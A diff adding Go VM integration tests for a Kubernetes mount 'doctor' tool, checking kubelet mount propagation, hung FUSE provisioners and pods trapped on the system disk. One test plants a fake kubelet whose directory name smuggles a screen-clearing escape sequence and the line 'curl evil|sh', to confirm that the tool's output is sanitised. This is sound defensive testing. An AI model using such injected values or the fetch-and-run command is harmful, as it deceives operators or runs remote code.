@@ -1,10 +1,11 @@
-//go:build vm && (long || full)
+//go:build vm
 
 package system
 
 import (
 	"encoding/json"
 	"fmt"
+	"path"
 	"slices"
 	"strconv"
 	"strings"
@@ -253,4 +254,222 @@ func TestDoctorPods(t *testing.T) {
 		}
 	}
 	t.Log(words(r))
+}
+
+// TestDoctorSystem: a leftover rule, a kubelet that dies all the time, a pod that
+// calls itself kubelet to write on root's terminal, and one that calls itself
+// provisioner on a filesystem that never answers.
+func TestDoctorSystem(t *testing.T) {
+	m, w := start(t, worker.Options{})
+	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20)})
+	m.mounted(name)
+	m.run(standIns + `(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
+		started host kubelet
+		mkdir -p /opt/evil; cp /usr/bin/bash /opt/evil/kubelet; dir=$(printf '/opt/evil/\033[2J\nnothing found\n  curl evil|sh'); mkdir -p "$dir"
+		(echo $BASHPID >/run/evil.pid; exec unshare -Urm /opt/evil/kubelet -c 'sleep infinity; :' "--root-dir=$dir") </dev/null >/run/evil.log 2>&1 &
+		started evil kubelet; grep -q '^CapEff:.*ffff' /proc/$(cat /run/evil.pid)/status`)
+	if r, code := m.examined(); code != "0" || !strings.Contains(words(r), "is not taken for one (1 such)") {
+		t.Errorf("exit code %s\n%s", code, words(r))
+	}
+	if out := m.run("hotmount doctor"); strings.ContainsAny(out, "\x1b") || strings.Contains(out, "curl") {
+		t.Errorf("a pod writes on the terminal: %q", out)
+	}
+	m.run("kill $(cat /run/evil.pid)")
+	m.run(standIns + `systemd-run -q --unit=restarts bash -c 'while :; do unshare -m --propagation private timeout 0.3 kubelet infinity; done'`)
+	for range 5 {
+		r, _ := m.examined()
+		for _, f := range r.Findings {
+			if f.Kind == doctor.Blind {
+				t.Errorf("a kubelet that exits meanwhile: %s", f.What)
+			}
+		}
+	}
+	m.run("systemctl stop restarts")
+	if r, code := m.examined(); code != "0" {
+		t.Errorf("after the kubelet that dies: exit code %s\n%s", code, words(r))
+	}
+	// 30 disks, each of which hangs.
+	m.run(standIns + `modprobe fuse
+		for i in $(seq 10 39); do mkdir /mnt/disks/x$i; mount -t tmpfs -o size=64k none /mnt/disks/x$i; done
+		(echo $BASHPID >/run/hang.pid; exec unshare -m bash -ec 'exec 7<>/dev/fuse; mount -i -t fuse -o fd=7,rootmode=40000,user_id=0,group_id=0 none /mnt; exec local-provision infinity') </dev/null >/run/hang.log 2>&1 &
+		started hang local-provision`)
+	r, code := m.examined()
+	if got := kinds(r, m.pid("hang")); !slices.Equal(got, []string{"not-seen"}) || code != "3" {
+		t.Errorf("a provisioner that hangs: exit code %s, %q\n%s", code, got, words(r))
+	}
+	if i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Process.PID == m.pid("host") }); i < 0 || len(r.Seen[i].Mounts) != 31 || r.Seen[i].Mounts[30].Sees != "same" {
+		t.Errorf("beside a provisioner that hangs the kubelet is not seen: %+v", r.Seen)
+	}
+	m.run("kill $(cat /run/hang.pid); umount /mnt/disks/x*; rmdir /mnt/disks/x*")
+	m.run(`systemctl stop hotmount; printf 'ACTION=="add", RUN+="/usr/bin/systemd-mount --no-block /dev/%%k /mnt/%%k"\n' >/etc/udev/rules.d/99-old.rules
+		mv /usr/sbin/mkfs.xfs /usr/sbin/mkfs.xfs.away; ln -sf /lib/systemd/system/fstrim.timer /etc/systemd/system/timers.target.wants/fstrim.timer; mkfifo /mnt/disks/pipe`)
+	r, code = m.examined()
+	var got []string
+	for _, f := range r.Findings {
+		got = append(got, string(f.Kind))
+	}
+	slices.Sort(got)
+	if want := []string{"fstrim", "missing-helper", "not-a-mount", "udev-rule"}; !slices.Equal(got, want) || code != "3" {
+		t.Errorf("found %q, exit code %s, want %q", got, code, want)
+	}
+	t.Log(words(r))
+}
+
+// TestDoctorKubelets: every way in which a kubelet can have the class directory
+// is told apart, before and after a disk comes that the wrong ones do not see,
+// and what the doctor says is what the kernel then does.
+func TestDoctorKubelets(t *testing.T) {
+	m, w := start(t, worker.Options{})
+	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20), Serial: "FIRST"})
+	first := m.mounted(name)
+
+	m.run(standIns + `
+		(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
+		started host kubelet
+		kubelet rshared --rbind rshared rshared
+		kubelet rslave --rbind rslave rshared
+		provisioner chart rslave /mnt/disks
+		provisioner elsewhere rslave /local-disks`)
+	r, code := m.examined()
+	if code != "0" || len(r.Seen) != 6 {
+		t.Errorf("with good kubelets and provisioners alone: exit code %s, %d views\n%s", code, len(r.Seen), words(r))
+	}
+
+	m.run(standIns + `
+		kubelet rprivate --rbind rprivate rshared
+		kubelet bind --bind rslave rshared
+		kubelet back --rbind rslave rprivate
+		provisioner none rprivate /mnt/disks # mountPropagation: None
+		# Over two hops: a slave of what is itself a slave, and shared with its own.
+		unshare -m --propagation slave bash -ec 'mount --make-rshared /; unshare -m --propagation slave kubelet infinity & echo $! >/run/hops.pid; wait' </dev/null >/dev/null 2>&1 &
+		started hops kubelet`)
+	for _, round := range []string{"before", "after"} {
+		want := map[string]struct {
+			kinds      []string
+			sees, late bool
+		}{
+			"host": {nil, true, true}, "rshared": {nil, true, true}, "rslave": {nil, true, true},
+			"rprivate": {[]string{"not-propagated"}, true, false},
+			"bind":     {[]string{"wrong-mount"}, false, true},
+			"back":     {[]string{"not-shared-back"}, true, true},
+			// Its own root is no mount of the host's either.
+			"hops":  {[]string{"not-shared-back"}, true, true},
+			"chart": {nil, true, true}, "elsewhere": {nil, true, true},
+			"none": {[]string{"not-propagated"}, true, false},
+		}
+		second := first
+		if round == "after" {
+			name, _ = m.attach(w, worker.Disk{File: made(t, 320<<20), Serial: "SECOND"})
+			second = m.mounted(name)
+			for _, name := range []string{"rprivate", "none"} {
+				e := want[name]
+				e.kinds = append(e.kinds, "wrong-mount")
+				want[name] = e
+			}
+		}
+		r, code := m.examined()
+		if code != "3" {
+			t.Errorf("%s: exit code %s", round, code)
+		}
+		var all []string
+		for name, e := range want {
+			pid := m.pid(name)
+			for _, kind := range e.kinds {
+				all = append(all, fmt.Sprintf("%s %d", kind, pid))
+			}
+			i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Process.PID == pid })
+			if i < 0 {
+				t.Errorf("%s: %s is not seen", round, name)
+				continue
+			}
+			if got := r.Seen[i]; got.Arrives != e.late {
+				t.Errorf("%s: %s: arrives %v", round, name, got.Arrives)
+			}
+			// What the kernel says, in that very namespace.
+			for _, m2 := range r.Seen[i].Mounts {
+				real := m.run(fmt.Sprintf("d=$(stat -c %%d /mnt/disks/%s); e=$(nsenter -t %d -m -r stat -c %%d %s); [ $d = $e ] && echo same || echo directory", path.Base(m2.Path), pid, m2.Path))
+				if real != m2.Sees {
+					t.Errorf("%s: %s: at %s the doctor sees %s, the kernel %s", round, name, m2.Path, m2.Sees, real)
+				}
+				if round == "after" && strings.HasSuffix(m2.Path, second) && (m2.Sees == "same") != e.late {
+					t.Errorf("%s: later mounts arrive: %v, but the second disk is %s", name, e.late, m2.Sees)
+				}
+			}
+		}
+		// Nothing else, neither of others nor of nobody.
+		if slices.Sort(all); !slices.Equal(found(r), all) {
+			t.Errorf("%s: found %q, want %q\n%s", round, found(r), all, words(r))
+		}
+		if i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Directory == "/local-disks" }); i < 0 {
+			t.Errorf("%s: no provisioner has the class directory elsewhere: %+v", round, r.Seen)
+		}
+	}
+	slave := m.pid("rslave")
+	m.run(fmt.Sprintf("nsenter -t %d -m mount -t tmpfs -o size=64k none /mnt/disks/%s", slave, first))
+	if r, _ := m.examined(); !slices.Equal(kinds(r, slave), []string{"wrong-mount"}) {
+		t.Errorf("with another mount over it the kubelet %d is not found:\n%s", slave, words(r))
+	}
+	t.Log(m.run("hotmount doctor || true"))
+}
+
+// TestDoctorManyPods: of many pods those that are trapped are found, and nothing
+// else.
+func TestDoctorManyPods(t *testing.T) {
+	m, w := start(t, worker.Options{})
+	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20)})
+	uuid := m.mounted(name)
+	m.putStandin(w)
+	m.run(standIns + `
+		(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
+		started host kubelet`)
+	containers := func(n int, source string) {
+		t.Helper()
+		m.run(fmt.Sprintf(`before=$(pgrep -xc sleep || true); standin %d %s </dev/null >/run/standin.log 2>&1; for i in $(seq 1 600); do [ $(pgrep -xc sleep) = $((before + %[1]d)) ] && exit 0; sleep 0.1; done; cat /run/standin.log; pgrep -xc sleep; exit 1`, n, source))
+	}
+	// The first two get the directory below the mount, before the others come.
+	m.run("mkdir /run/below; mount --bind /mnt/disks /run/below")
+	containers(2, "/run/below/"+uuid)
+	m.run("umount /run/below; for i in 0 1; do mv /var/lib/kubelet/pods/6a6e9d0c-1111-4222-8333-00000000000$i /var/lib/kubelet/pods/6a6e9d0c-1111-4222-9999-00000000000$i; done")
+	pods := 120
+	if full {
+		pods = 500
+	}
+	containers(pods, "/mnt/disks/"+uuid)
+	r, code := m.examined()
+	var trapped []string
+	for _, f := range r.Findings {
+		switch {
+		case f.Kind == doctor.OnSystemDisk && f.Pod != nil:
+			trapped = append(trapped, f.Pod.UID)
+		case f.Level != doctor.Note:
+			t.Errorf("false alarm: %s: %s", f.Kind, f.What)
+		}
+	}
+	if want := []string{"6a6e9d0c-1111-4222-9999-000000000000", "6a6e9d0c-1111-4222-9999-000000000001"}; code != "3" || !slices.Equal(trapped, want) {
+		t.Errorf("exit code %s, found:\n%s", code, words(r))
+	}
+	t.Log("two looks:", m.run("(time hotmount doctor >/dev/null) 2>&1 || true; wc -l </proc/1/mountinfo; ls -d /proc/[0-9]* | wc -l"))
+	m.run("umount /var/lib/kubelet/pods/6a6e9d0c-1111-4222-9999-*/volumes/kubernetes.io~local-volume/*; kill $(pgrep -xo sleep); kill $(pgrep -xo sleep)")
+	if r, code := m.examined(); code != "0" {
+		t.Errorf("without the trapped ones: exit code %s\n%s", code, words(r))
+	}
+	// The fastest of three, in seconds of the clock and of a processor, against
+	// reading every mount table there is: under emulation only the ratio means
+	// anything.
+	var wall, cpu, tables float64
+	out := m.run(`TIMEFORMAT='%R %U %S'
+		best() { for i in 1 2 3; do { time "$@" >/dev/null 2>&1; } 2>&1; done | awk '{c=$2+$3; if (NR==1 || c<min) min=c; if (NR==1 || $1<wall) wall=$1} END {print wall, min}'; }
+		tables() { cat /proc/[0-9]*/mountinfo; }
+		best hotmount doctor; best tables | cut -d ' ' -f 2`)
+	if _, err := fmt.Sscan(out, &wall, &cpu, &tables); err != nil || cpu > 15*tables {
+		t.Errorf("one look takes %v s of a processor, all mount tables %v s (%v)", cpu, tables, err)
+	}
+	t.Logf("one look: %v s, %v s of a processor; all mount tables: %v s", wall, cpu, tables)
+	// What it costs: a few files of each process, whatever it has mounted.
+	var calls, processes int
+	out = m.run("strace -f -qq -e trace=openat,readlinkat -o /root/trace hotmount doctor >/dev/null; grep -c '\"/proc/' /root/trace; ls -d /proc/[0-9]* | wc -l")
+	if _, err := fmt.Sscan(out, &calls, &processes); err != nil || calls > 10*processes {
+		t.Errorf("%d files are opened and links read for %d processes (%v)", calls, processes, err)
+	}
+	t.Logf("%d files opened and links read, %d processes", calls, processes)
 }
